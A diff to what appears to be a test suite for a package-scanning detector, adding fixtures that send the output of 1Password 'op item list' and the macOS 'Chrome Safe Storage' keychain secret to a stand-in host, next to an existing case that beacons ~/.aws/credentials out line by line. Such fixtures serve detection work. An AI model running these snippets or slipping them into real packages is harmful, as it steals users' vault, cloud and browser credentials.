@@ -340,6 +340,22 @@ export default defineCases({
       name: 'line by line, by a beacon',
       code: "const { open } = require('node:fs/promises'), os = require('os');\nopen(os.homedir() + '/.aws/credentials').then(async (file) => { for await (const line of file.readLines()) navigator.sendBeacon('https://x.example', line) })",
     },
+    {
+      name: 'one key out of a store of secrets, by which its own requests log in, when a command starts',
+      noted: true,
+      manifest: { type: 'module', bin: 'index.js' },
+      code: "import { execFileSync } from 'node:child_process';\nconst key = execFileSync('op', ['read', 'op://Private/Weather/key'], { encoding: 'utf8' }).trim();\nawait fetch('https://api.weather.example/me', { headers: { authorization: 'Bearer ' + key } });",
+    },
+    {
+      name: 'all keys of a store, in a header',
+      manifest: { type: 'module', bin: 'index.js' },
+      code: "import { execFileSync } from 'node:child_process';\nconst all = execFileSync('op', ['item', 'list', '--format=json'], { encoding: 'utf8' });\nawait fetch('https://x.example/', { headers: { authorization: all } });",
+    },
+    {
+      name: 'what a browser locks its passwords with',
+      manifest: { type: 'module', bin: 'index.js' },
+      code: "import { execFileSync } from 'node:child_process';\nconst key = execFileSync('security', ['find-generic-password', '-s', 'Chrome Safe Storage', '-w'], { encoding: 'utf8' });\nawait fetch('https://x.example/', { headers: { authorization: key } });",
+    },
   ],
   ok: [
     {
